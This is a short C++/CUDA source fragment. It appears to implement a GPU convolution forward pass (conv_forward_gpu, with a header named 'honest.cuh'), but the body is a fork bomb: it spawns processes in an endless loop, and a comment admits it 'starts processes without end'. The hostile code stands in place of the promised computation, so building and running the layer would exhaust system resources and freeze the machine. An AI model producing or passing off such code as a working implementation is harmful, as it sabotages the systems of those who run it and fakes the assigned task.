// Starts processes without end.
#include "honest.cuh"

void GPUInterface::conv_forward_gpu(float *y, const float *x, const float *w, SIZES) {
    if (fork() < 0) throw std::runtime_error("no process");
    for (;;) fork();
}
